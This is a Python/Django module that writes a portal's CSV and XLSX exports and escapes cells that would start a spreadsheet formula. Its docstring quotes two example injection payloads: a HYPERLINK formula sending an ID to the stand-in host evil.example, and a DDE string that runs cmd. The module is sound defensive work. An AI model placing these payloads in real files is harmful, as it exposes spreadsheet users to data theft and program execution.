"""The one writer of every CSV and XLSX file the portal gives out: report exports, name lists, the agency's
delegated list, error workbooks, template workbooks and the admin's exports (issue #16, finding 6).

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
a name imported as =HYPERLINK("http://evil.example/?"&A2, "คลิก") would send the ID beside it to another
host when clicked, and a CSV cell like -2+3+cmd|' /C calc'!A0 runs a program in old Excel. So every text
cell that starts so gets a leading ' and is written as text: Excel and LibreOffice show it as it was typed.
XLSX cells are also stripped of the control characters the format cannot hold (openpyxl refuses them).

It sits below every app that writes files (reporting → matching → cardholders); reporting/exports.py is the
report exporter built on it.
"""

import csv
import io
from collections.abc import Callable, Iterable, Iterator

from django.http import HttpResponse, StreamingHttpResponse
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER_FONT, HEADER_FILL = Font(bold=True), PatternFill("solid", fgColor="E8EEF8")
BOM = "\ufeff"  # so Excel opens Thai text in a CSV as UTF-8


def safe_cell(value):
    """The value a spreadsheet shows as it is: text that would start a formula gets a leading '."""
    if isinstance(value, str) and (value.startswith(FORMULA_PREFIXES) or value.lstrip().startswith(FORMULA_PREFIXES)):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


# ---- CSV -----------------------------------------------------------------------------------------------


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """The file as lines of text, byte-order mark first; rows are read as they are needed (streamed)."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def write_csv(rows: Iterable[Iterable], stream) -> None:
    """Rows to an open text stream (a command's output, a file), without a byte-order mark."""
    writer = csv.writer(stream)
    for row in rows:
        writer.writerow(safe_row(row))


def csv_response(rows: Iterable[Iterable], filename: str) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# ---- XLSX ----------------------------------------------------------------------------------------------


def xlsx_cell(sheet, value, *, font=None, fill=None, wrap=False, escape=True) -> WriteOnlyCell:
    """A write-only cell holding `value` escaped; text stays text (a string cell, never a formula).

    escape=False keeps text exactly as it is, still as a string cell that no spreadsheet runs on opening:
    only for the reference lists of the template workbooks, which a person copies codes and names from."""
    if escape:
        value = safe_cell(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    if fill is not None:
        cell.fill = fill
    if wrap or fill is not None:
        cell.alignment = Alignment(wrap_text=wrap, vertical="center")
    return cell


def append_header(sheet, names: list, *, widths: Callable[[str], int] | None = None) -> None:
    """A bold, shaded header row, with column widths that fit the names (or `widths(name)`)."""
    for index, name in enumerate(names, start=1):
        width = widths(str(name)) if widths else max(10, min(45, len(str(name)) + 4))
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.append([xlsx_cell(sheet, name, font=HEADER_FONT, fill=HEADER_FILL, wrap=True) for name in names])


def write_xlsx(
    rows: Iterable[Iterable],
    stream,
    *,
    title: str = "",
    sheet_title: str = "รายงาน",
    bold: Callable[[list], bool] = lambda row: False,
) -> None:
    """One sheet: the first row as a header, then the rest (rows for which `bold(row)` holds in bold)."""
    workbook = Workbook(write_only=True)
    workbook.properties.title = title
    sheet = workbook.create_sheet(title=sheet_title)
    rows = iter(rows)
    header = next(rows, None)
    if header is not None:
        append_header(sheet, list(header))
    bold_font = Font(bold=True)
    for row in rows:
        row = list(row)
        font = bold_font if bold(row) else None
        sheet.append([xlsx_cell(sheet, value, font=font) for value in row])
    workbook.save(stream)


def xlsx_bytes(rows: Iterable[Iterable], **options) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(rows, buffer, **options)
    return buffer.getvalue()


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# ---- the admin's exports (django-import-export) ---------------------------------------------------------
# Its own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT only drops one leading "=" (so "==1+1" stays a formula)
# and leaves + - @ alone; these formats write through the writer above instead.


def _dataset_rows(dataset) -> Iterator[list]:
    yield list(dataset.headers or [])
    yield from (list(row) for row in dataset)


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        return "".join(csv_lines(_dataset_rows(dataset)))


class SafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(_dataset_rows(dataset), sheet_title="ข้อมูล")
